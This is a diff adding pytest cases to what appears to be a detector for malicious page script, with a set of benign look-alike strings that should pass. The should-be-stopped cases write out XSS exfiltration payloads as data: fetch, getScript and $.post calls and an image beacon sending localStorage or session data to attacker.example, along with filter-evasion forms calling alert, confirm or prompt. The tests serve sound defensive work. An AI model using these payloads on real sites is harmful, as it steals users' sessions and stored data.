@@ -51,3 +51,39 @@ def test_what_is_only_named_passes(text: str) -> None:
 )
 def test_what_runs_is_stopped_whatever_is_said_around_it(text: str) -> None:
     assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('//attacker.example/'+localStorage.session)",
+        "fetch(`https://attacker.example/${sessionStorage.getItem('a')}`)",
+        "x.src='https://attacker.example/?a='+btoa(JSON.stringify(localStorage))",
+        "/* one two three four five six seven eight nine */fetch('//b.example/'+localStorage.a)",
+        "jQuery.getScript('//attacker.example/a.js')",
+        "$.getScript('https://attacker.example/a.js')",
+        "$.post('//attacker.example/a')",
+        "valueOf=confirm;self*1",
+        "Array.from`7${prompt}`",
+        "[7].some`${alert}`",
+    ],
+)
+def test_what_is_sent_and_got_by_script_is_stopped(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('https://api.example.com/me', {headers: {a: localStorage.getItem('token')}})",
+        "fetch('/api/items').then(r => r.json())",
+        "$.get('/api/items')",
+        "'https://share.example/?to=' + encodeURIComponent(location.pathname)",
+        "We load it with $.getScript('https://cdn.example.com/a.js') when needed",
+        "const kept = localStorage.getItem('theme')",
+        "<b className={`box ${alert}`}>",
+        "valueOf: returns a number; toString: a text",
+    ],
+)
+def test_what_programs_of_pages_do_all_day_passes(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
